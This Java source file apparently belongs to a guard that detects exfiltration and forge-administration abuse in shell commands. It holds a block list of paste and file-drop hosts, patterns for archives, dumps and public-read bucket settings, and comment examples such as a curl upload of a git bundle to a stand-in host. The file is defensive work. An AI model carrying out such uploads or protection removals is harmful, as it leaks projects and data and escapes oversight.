package io.github.providergateway.guard.internal;

import io.github.providergateway.guard.internal.Where.Predicate;
import io.github.providergateway.guard.internal.Where.Read;
import io.github.providergateway.guard.shell.Word;
import io.github.providergateway.guard.shell.internal.NameSet;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.regex.Pattern;

/**
 * The predicates of sending the project out in a clean session and of the forge's administration
 * (issue 80, decision 90): a paste or file-drop host, the tree or an archive copied to another
 * machine, a bucket made readable by anyone, a push after its remote was pointed elsewhere in the
 * same call, and the forge's API removing branch protection, granting access or setting a secret.
 */
final class OutPredicates {

  /** Hosts whose whole business is holding what anyone uploads, for anyone with the link. */
  static final Set<String> DROP_HOSTS =
      NameSet.of(
          "sprunge.us",
          "ix.io",
          "termbin.com",
          "0x0.st",
          "transfer.sh",
          "paste.rs",
          "dpaste.com",
          "dpaste.org",
          "pastebin.com",
          "hastebin.com",
          "paste.ee",
          "rentry.co",
          "file.io",
          "tmpfiles.org",
          "catbox.moe",
          "litterbox.catbox.moe",
          "gofile.io",
          "bashupload.com",
          "oshi.at",
          "temp.sh",
          "x0.at",
          "uguu.se",
          "pixeldrain.com",
          "justpaste.it",
          "paste.debian.net",
          "bpa.st",
          "privatebin.net",
          "envs.sh",
          "keep.sh",
          "clbin.com",
          "p.ip.fi",
          "paste.c-net.org",
          "filebin.net",
          "put.re",
          "wetransfer.com");

  /** A host named for a paste bin ({@code pastebin}, {@code hastebin} in its name). */
  private static final Pattern DROP_NAME = Pattern.compile("pastebin|hastebin");

  /** An archive, a bundle or a dump: the project (or its data) in one file. */
  static final Pattern ARCHIVE =
      Pattern.compile(
          "(?i)\\.(?:tar|tgz|tbz2?|txz|tzst|zip|7z|rar|gz|bz2|xz|zst|bundle|dump|sql|sqlite3?|db"
              + "|pack|jar|war)$");

  /** The folders a build writes its output to: what a deploy copies to a server. */
  static final Set<String> BUILT =
      NameSet.of(
          "dist", "build", "public", "out", "target", "site", "_site", "www", "static", "html");

  /** The HTTP clients whose uploads send a file: {@code -T}, {@code -F x=@f}, {@code -d @f}. */
  private static final Set<String> HTTP_UPLOADERS =
      NameSet.of("curl", "wget", "http", "https", "xh");

  /**
   * Whether an HTTP client uploads an archive, a bundle or a dump to another machine ({@code curl
   * -T /tmp/shop.bundle https://transfer.example.net/}): the project or its data in one file, as
   * {@code scp} of it is (round 4's red team: a git bundle uploaded with curl).
   */
  private static boolean uploadsArchive(Step step) {
    String host = null;
    List<String> files = new ArrayList<>();
    List<Word> args = step.args();
    for (int i = 0; i < args.size(); i++) {
      String t = args.get(i).text();
      String next = i + 1 < args.size() ? args.get(i + 1).text() : null;
      if (t == null) {
        continue;
      }
      if (Hosts.URL.matcher(t).lookingAt() && host == null) {
        host = Hosts.of(t);
      } else if ((t.equals("-T") || t.equals("--upload-file")) && next != null) {
        files.add(next);
      } else if (t.startsWith("--upload-file=")) {
        files.add(t.substring("--upload-file=".length()));
      } else if (CurlBodies.FORMS.contains(t)
          && next != null
          && CurlBodies.formFile(next) != null) {
        files.add(CurlBodies.formFile(next));
      } else if (CurlBodies.DATA.contains(t) && next != null && CurlBodies.dataFile(next) != null) {
        files.add(CurlBodies.dataFile(next));
      } else if (t.startsWith("--post-file=") || t.startsWith("--body-file=")) {
        files.add(t.substring(t.indexOf('=') + 1));
      } else if (t.startsWith("@") && !step.program().equals("curl")) {
        files.add(t.substring(1)); // httpie, xh: @file is the body
      }
    }
    if (host == null || Hosts.loopback(host) || forgeOrRegistry(host)) {
      return false;
    }
    for (String file : files) {
      String base = file.substring(file.lastIndexOf('/') + 1);
      if (!file.equals("-") && PatternLiterals.finds(ARCHIVE, base) && !built(file)) {
        return true;
      }
    }
    return false;
  }

  /** The forges' and registries' hosts: a release asset, a package, where the project goes. */
  private static final List<String> FORGES_AND_REGISTRIES =
      List.of(
          "github.com",
          "githubusercontent.com",
          "gitlab.com",
          "bitbucket.org",
          "npmjs.org",
          "pypi.org",
          "sonatype.org",
          "sonatype.com",
          "maven.apache.org",
          "crates.io",
          "rubygems.org");

  private static boolean forgeOrRegistry(String host) {
    for (String known : FORGES_AND_REGISTRIES) {
      if (host.equals(known) || host.endsWith("." + known)) {
        return true;
      }
    }
    return false;
  }

  /** Programs that copy files to another machine. */
  private static final Set<String> COPIERS =
      NameSet.of("scp", "rsync", "sftp", "rclone", "ascp"); // IBM Aspera's ascp: decision 248

  private OutPredicates() {}

  /** Adds each predicate under its name. */
  static void addTo(Map<String, Predicate> named) {
    named.put(
        "sends-to-drop-host",
        new ProgramNames(NetworkSends::reads, OutPredicates::sendsToDropHost));
    named.put("copies-tree-out", (scan, step, read) -> copiesOut(scan, step, true));
    named.put(
        "copies-file-out",
        (scan, step, read) ->
            RecordsCopiedOut.copies(scan, step)
                || RecordsToBucket.copies(scan, step)
                || CodeSendsRecords.sends(step)); // decision 307
    named.put(
        "pipes-data-to-remote-file", (scan, step, read) -> PipedIntoRemoteFile.sends(scan, step));
    named.put("drops-file-to-host", (scan, step, read) -> RecordsCopiedOut.dropsFile(scan, step));
    named.put("copies-archive-out", (scan, step, read) -> copiesOut(scan, step, false));
    named.put("copies-to-personal-host", (scan, step, read) -> PersonalHosts.names(step));
    // Decision 334's two clauses for any program, behind the words they need (CallClues).
    named.put(
        "data-shared-to-personal-identity",
        PersonalGrants.ADDRESSED.around((scan, step, read) -> PersonalGrants.grants(step)));
    named.put(
        "identity-documents-taken-home",
        IdentityDocuments.KEPT_NAMED.around(
            (scan, step, read) -> IdentityDocuments.bucketTakenHome(step)));
    named.put(
        "copies-to-removable-drive",
        (scan, step, read) -> CopiedOffTheMachine.toRemovableDrive(step));
    named.put(
        "copies-to-synced-folder", (scan, step, read) -> CopiedOffTheMachine.toSyncedFolder(step));
    named.put(
        "copies-records-to-web-root", (scan, step, read) -> WebRootCopies.copiesRecords(step));
    named.put("makes-public-read", (scan, step, read) -> publicRead(step));
    named.put("push-repointed", OutPredicates::pushRepointed);
    named.put("api-removes-protection", (scan, step, read) -> api(read, "DELETE", "/protection"));
    named.put("api-grants-access", (scan, step, read) -> api(read, "PUT", "/collaborators/"));
    named.put("api-sets-secret", (scan, step, read) -> api(read, "PUT", "/secrets/"));
    named.put("alias-admin-merge", (scan, step, read) -> aliasAdminMerge(read));
    named.put("adds-secret-file", OutPredicates::addsSecretFile);
  }

  /** Whether {@code host} is a paste or file-drop host, by the list or by its name. */
  static boolean dropHost(String host) {
    if (host == null) {
      return false;
    }
    String h = host.toLowerCase(Locale.ROOT);
    if (h.startsWith("www.")) {
      h = h.substring(4);
    }
    return DROP_HOSTS.contains(h)
        || WebLookups.COLLECTORS.contains(h) // webhook.site, pipedream.net (decision 179)
        || PatternLiterals.finds(DROP_NAME, h);
  }

  private static boolean sendsToDropHost(Scan scan, Step step, Read read) {
    if (!NetworkSends.reads(step.program())) {
      return false; // most programs: nothing made to read them
    }
    FlowReading.Found found = new FlowReading.Found();
    NetworkSends.read(step, found);
    for (Object[] sending : found.sends()) {
      String kind = (String) sending[0];
      String to = (String) sending[1];
      if (kind.equals("PASTE") && !"gist".equals(to) && !(to != null && to.contains("gist"))) {
        return true; // pastebinit, termbin, croc and their kind
      }
      if (to != null && dropHost(to.startsWith("repo ") ? "" : to)) {
        return true;
      }
    }
    return false;
  }

  /** A database's dump by its name. */
  private static final java.util.regex.Pattern DUMP =
      java.util.regex.Pattern.compile(
          "(?i)\\.(?:sql|dump|bak|pgdump)(?:\\.(?:gz|bz2|xz|zst))?$|dump");

  /**
   * Whether an {@code scp}, {@code rsync}, {@code sftp} or {@code rclone} copies to another machine
   * a folder (the tree, {@code .}, {@code src/}; not a build's output), or else an archive, a
   * bundle or a dump.
   */
  private static boolean copiesOut(Scan scan, Step step, boolean folders) {
    if (!folders && toBucket(scan, step)) {
      return true;
    }
    if (!folders && HTTP_UPLOADERS.contains(step.program())) {
      return uploadsArchive(step);
    }
    List<String> operands = copied(step);
    if (operands == null) {
      return false;
    }
    String last = operands.get(operands.size() - 1);
    String host = step.program().equals("rclone") ? rcloneRemote(last) : Hosts.remote(last);
    if (host == null || Hosts.loopback(host)) {
      return false;
    }
    boolean ownStaging = Environments.stagingHost(host) || Environments.testName(host);
    if (folders && ownStaging) {
      return false; // the tree to a staging or test machine: the developer's own (decision 184)
    }
    for (String source : operands.subList(0, operands.size() - 1)) {
      if (Hosts.remote(source) != null) {
        continue; // from another machine: a download
      }
      String name = source.replaceAll("/+$", "");
      String base = name.substring(name.lastIndexOf('/') + 1);
      boolean folder = folder(step, source);
      if (folder && (BUILT.contains(base) || built(source))) {
        continue; // a build's output to a server: a deploy, not the project's source
      }
      if (folders ? folder : !folder && PatternLiterals.finds(ARCHIVE, base) && !built(source)) {
        // an archive to staging is the developer's own (a theme's zip, decision 244); not the
        // whole history in a bundle, nor a database's dump
        if (!ownStaging || base.endsWith(".bundle") || PatternLiterals.finds(DUMP, base)) {
          return true;
        }
      }
    }
    return false;
  }

  /**
   * The copier's operands, sources then destination, where it copies at all ({@link #transfers});
   * rclone's without its command; else {@code null}.
   */
  static List<String> copied(Step step) {
    if (!COPIERS.contains(step.program())) {
      return null;
    }
    List<String> operands = new ArrayList<>();
    for (Word word : CopierOptions.operands(step)) {
      operands.add(word.text());
    }
    if (!transfers(step, operands)) {
      return null;
    }
    if (step.program().equals("rclone") && !operands.isEmpty()) {
      operands = operands.subList(1, operands.size()); // copy, sync, move
    }
    return operands.size() < 2 ? null : operands;
  }

  /** Whether a copy's source is a folder: ends in a slash, names one, or has no ending. */
  static boolean folder(Step step, String source) {
    String name = source.replaceAll("/+$", "");
    String base = name.substring(name.lastIndexOf('/') + 1);
    return source.endsWith("/")
        || Set.of(".", "..", "", "*", "~").contains(name)
        || !base.contains(".") && !base.isEmpty()
        || step.program().equals("rsync") && !base.contains(".");
  }

  /** rclone's commands that copy: {@code check}, {@code ls}, {@code size} only look. */
  private static final Set<String> RCLONE_COPIES =
      NameSet.of("copy", "copyto", "sync", "move", "moveto", "bisync");

  /**
   * Whether the copier copies at all: not a dry run ({@code --dry-run}, rsync's {@code -n}), and
   * for rclone a command that copies ({@code rclone check} compares).
   */
  private static boolean transfers(Step step, List<String> operands) {
    for (Word word : step.args()) {
      String text = word.text();
      if (text.equals("--dry-run")
          || text.equals("--list-only")
          || step.program().equals("rsync")
              && text.startsWith("-")
              && !text.startsWith("--")
              && text.indexOf('n') > 0) {
        return false;
      }
    }
    return !step.program().equals("rclone")
        || !operands.isEmpty() && RCLONE_COPIES.contains(operands.get(0));
  }

  /**
   * Whether a cloud storage copy ({@code aws s3 cp}, {@code gsutil cp}, {@code gcloud storage cp})
   * puts an archive, a bundle or a dump in a bucket.
   */
  private static boolean toBucket(Scan scan, Step step) {
    List<String> words = new ArrayList<>();
    for (Word word : step.args()) {
      if (word.text() != null && !word.text().startsWith("-")) {
        words.add(word.text());
      }
    }
    int copy =
        switch (step.program()) {
          case "aws" -> words.size() > 1 && words.get(0).equals("s3") ? 1 : -1;
          case "gsutil" -> 0;
          case "gcloud" -> words.size() > 1 && words.get(0).equals("storage") ? 1 : -1;
          default -> -1;
        };
    if (copy < 0
        || words.size() < copy + 2
        || !Set.of("cp", "mv", "sync", "rsync").contains(words.get(copy))) {
      return false;
    }
    int to = -1; // the bucket copied to: the last one named (an option's value may follow it)
    for (int i = copy + 1; i < words.size(); i++) {
      if (words.get(i).matches("(?i)(?:s3|gs)://.+")) {
        to = i;
      }
    }
    if (to < 0) {
      return false;
    }
    for (String operand : words.subList(copy + 1, to)) {
      for (String source : FindExecFiles.named(scan, step, operand)) {
        String base = source.substring(source.lastIndexOf('/') + 1);
        if (!source.matches("(?i)(?:s3|gs)://.*")
            && PatternLiterals.finds(ARCHIVE, base)
            && !built(source)) {
          return true;
        }
      }
    }
    return false;
  }

  /** Whether a path lies in a build's output folder ({@code dist/app.zip}): a deploy's artifact. */
  private static boolean built(String path) {
    for (String part : path.split("/")) {
      if (BUILT.contains(part)) {
        return true;
      }
    }
    return false;
  }

  static String rcloneRemote(String operand) {
    int colon = operand.indexOf(':');
    return colon <= 0 || operand.substring(0, colon).contains("/")
        ? null
        : operand.substring(0, colon);
  }

  /**
   * Whether {@code rclone link} makes a link that never expires to a remote's file or folder
   * (decision 318: {@code rclone link drive:Safeguarding/}): whoever has the link reads it, as a
   * public bucket's; {@code --expire} makes it a signed URL's kind, {@code --unlink} takes it away.
   */
  private static boolean publicLink(List<Word> args) {
    boolean link = false;
    for (Word word : args) {
      String text = word.text();
      if (text.startsWith("--expire") || text.equals("--unlink")) {
        return false;
      }
      if (!link && !text.startsWith("-")) {
        if (!text.equals("link")) {
          return false;
        }
        link = true;
      }
    }
    return link;
  }

  /** Whether a cloud storage command makes what it copies, or the bucket, readable by anyone. */
  private static boolean publicRead(Step step) {
    String program = step.program();
    if (program.equals("rclone")) {
      return publicLink(step.args());
    }
    if (!Set.of("aws", "gsutil", "gcloud", "az", "mc", "s3cmd", "bq").contains(program)) {
      return false;
    }
    List<String> words = new ArrayList<>();
    for (Word word : step.args()) {
      words.add(word.text() == null ? "" : word.text());
    }
    for (int i = 0; i < words.size(); i++) {
      String word = words.get(i);
      String next = i + 1 < words.size() ? words.get(i + 1) : "";
      String lower = word.toLowerCase(Locale.ROOT);
      if (lower.matches("--acl=public-read(?:-write)?|public-read(?:-write)?|--acl-public")
          || lower.matches("--predefined-acl=public-?read|publicread")
          || word.equals("-a") && next.startsWith("public-read")
          || lower.contains("allusers") && (words.contains("acl") || words.contains("iam"))
          || lower.matches("--member=(?:allusers|allauthenticatedusers)")
          || lower.equals("--member") && next.matches("(?i)all(?:authenticated)?users")
          || lower.matches("--public-access(?:=(?:blob|container))?")
              && !next.equals("off")
              && !lower.endsWith("=off")
          || program.equals("mc")
              && (word.equals("anonymous") || word.equals("policy"))
              && words.stream().anyMatch(w -> Set.of("download", "public").contains(w))) {
        return true;
      }
      if (lower.contains("\"principal\"")) {
        String policy = word.replaceAll("\\s", "");
        if (policy.contains("\"Principal\":\"*\"")
            || policy.contains("\"Principal\":{\"AWS\":\"*\"}")
            || policy.contains("\"Principal\":{\"AWS\":[\"*\"]}")) {
          return true;
        }
      }
    }
    return false;
  }

  /**
   * Whether a {@code git push} goes where the same call pointed a remote: its own {@code -c
   * remote.X.url=}, {@code pushurl} or {@code insteadOf}, or an earlier program of the call that
   * set a remote's URL ({@code git remote set-url}, {@code git config remote.X.url}).
   */
  private static boolean pushRepointed(Scan scan, Step step, Read read) {
    List<Word> args = step.args();
    for (int i = 0; i + 1 < args.size(); i++) {
      String text = args.get(i).text();
      if ("-c".equals(text) && args.get(i + 1).text() != null && repoints(args.get(i + 1).text())) {
        return true;
      }
      if (text == null || text.equals(read.subcommand())) {
        break;
      }
    }
    for (Step other : scan.steps()) {
      if (other == step) {
        break;
      }
      if (!other.program().equals("git")) {
        continue;
      }
      List<String> words = new ArrayList<>();
      for (Word word : other.args()) {
        words.add(word.text() == null ? "" : word.text());
      }
      int remote = words.indexOf("remote");
      if (remote >= 0 && remote + 1 < words.size() && words.get(remote + 1).equals("set-url")) {
        return true;
      }
      int config = words.indexOf("config");
      if (config >= 0) {
        for (String word : words.subList(config + 1, words.size())) {
          if (repoints(word + "=")) {
            return true;
          }
        }
      }
    }
    return false;
  }

  private static boolean repoints(String setting) {
    String key = setting.toLowerCase(Locale.ROOT);
    int equals = key.indexOf('=');
    key = equals < 0 ? key : key.substring(0, equals);
    return key.startsWith("remote.") && (key.endsWith(".url") || key.endsWith(".pushurl"))
        || key.startsWith("url.") && (key.endsWith(".insteadof") || key.endsWith(".pushinsteadof"));
  }

  /** Whether a {@code gh api} call uses {@code method} on a path holding {@code part}. */
  private static boolean api(Read read, String method, String part) {
    String given = read.argv().value("method");
    if (given == null) {
      given = read.argv().value('X');
    }
    if (given == null || !given.equalsIgnoreCase(method)) {
      return false;
    }
    for (Word word : read.argv().positionals()) {
      if (word.text() != null && word.text().contains(part)) {
        return true;
      }
    }
    return false;
  }

  /** Whether a {@code git add} stages a file named for secrets ({@code .env}, a key, a token). */
  private static boolean addsSecretFile(Scan scan, Step step, Read read) {
    for (Word word : read.argv().positionals()) {
      for (Target target : scan.targets(step, word)) {
        if (target.known() && SecretFiles.secret(target)) {
          return true;
        }
      }
    }
    return false;
  }

  /** Whether {@code gh alias set} names a merge with {@code --admin}. */
  private static boolean aliasAdminMerge(Read read) {
    for (Word word : read.args()) {
      String text = word.text();
      if (text.contains("merge") && text.contains("--admin")) {
        return true;
      }
    }
    return false;
  }
}
